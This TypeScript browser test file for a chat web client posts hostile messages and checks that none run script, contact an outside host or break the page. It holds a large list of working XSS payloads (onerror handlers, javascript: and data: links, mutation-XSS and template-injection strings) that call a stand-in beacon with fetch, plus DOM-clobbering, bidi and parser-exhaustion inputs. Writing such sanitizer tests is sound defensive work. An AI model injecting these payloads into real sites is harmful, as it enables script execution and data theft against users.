import { afterAll, beforeAll, describe, expect } from 'bun:test';
import { join } from 'node:path';
import { GENEROUS_LIMITS } from '@hearth/testing/instances/test-instance';
import { browserTest } from '@hearth/testing/browser/chromium';
import { ForeignSite } from '@hearth/testing/browser/foreign-site';
import { layoutFaults } from './support/layout.ts';
import { KeptLobby } from './support/kept-lobby.ts';
import { eventually, Someone } from './support/someone.ts';
import { useBrowser } from '@hearth/testing/browser/use-browser';
import { WebInstance } from './support/web-instance.ts';

const DATA = join(import.meta.dir, 'data/hostile-messages.json');

/** Longer than usual, for input that takes a parser long. */
const MOST_CHARACTERS = 10_000;

/** The acts of a hostile script: show that it ran, and report to its author. `BEACON` is replaced by an address. */
const RUN = "alert('ran'),globalThis.ran=1,fetch('BEACON')";

const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video autoplay onerror="${RUN}"><source src=x></video>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus="${RUN}">`,
  `<a href="javascript:${RUN}">click me</a>`,
  `[click me](javascript:${RUN})`,
  `[click me](JaVaScRiPt:${RUN} "title")`,
  `[click me](<javascript:${RUN}>)`,
  `[click me](&#x6A;avascript:${RUN})`,
  `[click me](java\tscript:${RUN})`,
  `[click me](data:text/html,<script>${RUN}</script>)`,
  `[click me](vbscript:${RUN})`,
  `![x](javascript:${RUN})`,
  `![x" onerror="${RUN}](BEACON)`,
  `<javascript:${RUN}>`,
  `\`\`\`html" onmouseover="${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`<img src=x onerror=${RUN}>\nx\n\`\`\``,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<meta http-equiv="refresh" content="0;url=BEACON">`,
  `<base href="BEACON">`,
  `<link rel=stylesheet href="BEACON">`,
  `<object data="BEACON"></object><embed src="BEACON">`,
  `{{constructor.constructor("${RUN}")()}}`,
];

const DISGUISES: readonly string[] = [
  '<style>* { display: none !important; background: url(BEACON) }</style>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">covers all</div>',
  '<p class="composer message-list visually-hidden">class names of the page</p>',
  '<form name=body><input name=querySelector><input name=cookie></form>',
  '<a id=app></a><img name=getElementById><img name=hearth><form id=documentElement></form>',
  '<div id="instance-info">{"effis_url":"BEACON"}</div>',
  '<input type=text value="another text box"><textarea>and another</textarea>',
  '<div role=log contenteditable=true>editable</div>',
  'w'.repeat(2000),
  `https://example.com/${'path'.repeat(450)}`,
  `| ${'wide '.repeat(200)} | b |\n|---|---|\n| ${'c'.repeat(400)} | d |`,
  `\`\`\`\n${'long line of code '.repeat(100)}\n\`\`\``,
  `\`${'inlinecode'.repeat(150)}\``,
  '\u202Egnidliub eht lla\u202C and \u2066unclosed \u202E\u202E\u202E',
  '\u200B\u200B\u200B',
  '\u2800',
  'Z\u0351\u036B\u0343\u0369'.repeat(300),
  '﷽'.repeat(300),
  '>'.repeat(10_000),
  '> '.repeat(5000),
  '- '.repeat(5000),
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  '*a_'.repeat(3300),
  `${'# '.repeat(500)}x`,
  '\n'.repeat(2000) + '.',
  `<!-- ${'a'.repeat(2000)}`,
  '&'.repeat(2000),
  '\\'.repeat(2000),
  '1. '.repeat(600),
];

const NAMES: readonly string[] = [
  '<script>alert(1)</script>',
  '\u202Eecarg',
  '\u200B\u200B',
  'W'.repeat(32),
  'Ж\u0351\u036B\u0343\u0369\u0351\u036B\u0343\u0369\u0351\u036B\u0343',
  '__proto__',
  'constructor',
  '﷽'.repeat(32),
];

const browser = useBrowser();
const lobby = new KeptLobby(browser);
let instance: WebInstance;
let site: ForeignSite;

beforeAll(async () => {
  [instance, site] = await Promise.all([
    WebInstance.start({ toml: `[oprish]\nmessage_limit = ${MOST_CHARACTERS}\n${GENEROUS_LIMITS}` }),
    ForeignSite.start(),
  ]);
});

afterAll(async () => {
  await instance[Symbol.asyncDispose]();
  await site[Symbol.asyncDispose]();
});

/** The contents in the data file, whatever other columns it has. */
async function dataContents(): Promise<readonly string[]> {
  const file = Bun.file(DATA);
  if (!(await file.exists())) return [];
  return textsIn(await file.json());
}

function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(textsIn);
  if (typeof value !== 'object' || value === null) return [];
  const content: unknown = Reflect.get(value, 'content') ?? Reflect.get(value, 'message');
  return typeof content === 'string' ? [content] : Object.values(value).flatMap(textsIn);
}

/** Goes through the whole list from the newest up, and checks the page at every step. */
async function lookThrough(someone: Someone, look: () => Promise<void>): Promise<void> {
  await someone.log.hover();
  let last = -1;
  let top = await someone.log.evaluate((log) => log.scrollTop);
  while (top !== last) {
    await look();
    last = top;
    await someone.page.mouse.wheel(0, -600);
    await someone.page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    );
    top = await someone.log.evaluate((log) => log.scrollTop);
  }
}

/** The elements in the list that could run script or reach another host. */
const dangersIn = (someone: Someone) =>
  someone.log.evaluate((log) => {
    const found: string[] = [];
    for (const element of log.querySelectorAll('*')) {
      const name = element.tagName.toLowerCase();
      const isForbidden =
        /^(script|iframe|object|embed|form|style|link|meta|base|input|textarea|select|frame)$/;
      // The calendar of a day's line is the page's own.
      const isOwn = element.matches('input[type=checkbox][disabled], .day-jump > input[type=date]');
      if (isForbidden.test(name) && !isOwn) found.push(name);
      if (element.matches('[contenteditable], [id], [name]:not([type=radio])'))
        found.push(`${name} with ${element.getAttributeNames().join(' ')}`);
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith('on')) found.push(`${name} ${attribute}`);
        const isAddress = /^(href|src|action|formaction|xlink:href|data|poster)$/.test(attribute);
        const isFine = /^(https?:|mailto:|blob:|#)/i.test(value);
        if (isAddress && !isFine) found.push(`${name} ${attribute}=${value.slice(0, 60)}`);
      }
    }
    return found;
  });

describe('hostile messages', () => {
  browserTest('run no script, contact no host, and leave the page unchanged', async () => {
    const beacon = `${site.origin}/ran`;
    const contents = [...(await dataContents()), ...SCRIPTS, ...DISGUISES];
    for (const [index, content] of contents.entries()) {
      const author = NAMES[index % NAMES.length] ?? 'Eve';
      const text = [...content.replaceAll('BEACON', beacon)].slice(0, MOST_CHARACTERS).join('');
      await instance.post(text, author);
    }
    await instance.post('the last of them');
    const grace = await lobby.enter(instance);
    const { visit } = grace;
    await grace.reads('the last of them');
    await lookThrough(grace, async () => {
      expect(await dangersIn(grace)).toEqual([]);
      const faults = await layoutFaults(grace.page);
      // A letter is one letter, however many marks it has, and cannot be broken.
      expect(faults.filter((fault) => !/Z\p{M}/u.test(fault))).toEqual([]);
    });
    expect(
      await grace.page.evaluate(() => ['ran', 'hacked'].filter((name) => name in globalThis)),
    ).toEqual([]);
    expect(site.asked).toEqual([]);
    expect(visit.requested.filter((url) => url.startsWith(site.origin))).toEqual([]);
    expect(await grace.textBoxes.count()).toBe(1);
    await grace.say('still here');
    await grace.reads('still here');
  });

  browserTest('have links that open in a new tab and send no referrer', async () => {
    const grace = await lobby.enter(instance);
    const address = site.serve('/elsewhere', { body: '<title>elsewhere</title>' });
    await instance.post(`[a link](${address}) and ${address}?bare`);
    const link = grace.log.getByRole('link', { name: 'a link' });
    // The page's headers ensure the same.
    expect((await link.getAttribute('rel'))?.split(' ')).toEqual(
      expect.arrayContaining(['noopener', 'noreferrer']),
    );
    const opened = grace.page.context().waitForEvent('page');
    await link.click();
    const page = await opened;
    await page.waitForLoadState();
    const seen = await page.evaluate(() => [globalThis.opener, document.referrer]);
    expect(seen).toEqual([null, '']);
    expect(await grace.log.getByRole('link', { name: /bare/ }).count()).toBe(1);
  });

  browserTest('that arrive live do no more harm than those of the history', async () => {
    const grace = await lobby.enter(instance);
    const { visit } = grace;
    for (const content of SCRIPTS) await instance.post(content.replaceAll('BEACON', site.origin));
    await instance.post('live, the last');
    await grace.reads('live, the last');
    expect(await dangersIn(grace)).toEqual([]);
    expect(visit.requested.filter((url) => url.startsWith(site.origin))).toEqual([]);
  });
});

browserTest('hostile names and descriptions of files stay text', async () => {
  const grace = await lobby.enter(instance);
  const name = '"><img src=x onerror=alert(1)>.txt';
  await instance.post(await instance.store('just text', name.replaceAll('"', '%22')));
  await eventually(async () => (await grace.log.locator('.file-name').count()) > 0, true);
  expect(await dangersIn(grace)).toEqual([]);
});

browserTest('a hostile name and description of an instance stay text', async () => {
  await using eve = await WebInstance.start({
    who: `instance_name = "</script><script>alert(1)</script>"\ndescription = "<img src=x onerror=alert(1)> <!-- ${'w'.repeat(500)}"\n`,
  });
  const grace = await Someone.enter(await browser.emptyVisit(), eve);
  expect(await grace.page.title()).toContain('</script><script>alert(1)</script>');
  await grace
    .button(/alert\(1\)/)
    .first()
    .click();
  await grace.page.getByRole('dialog').getByText('<img src=x onerror=alert(1)>').waitFor();
  expect(await layoutFaults(grace.page)).toEqual([]);
});
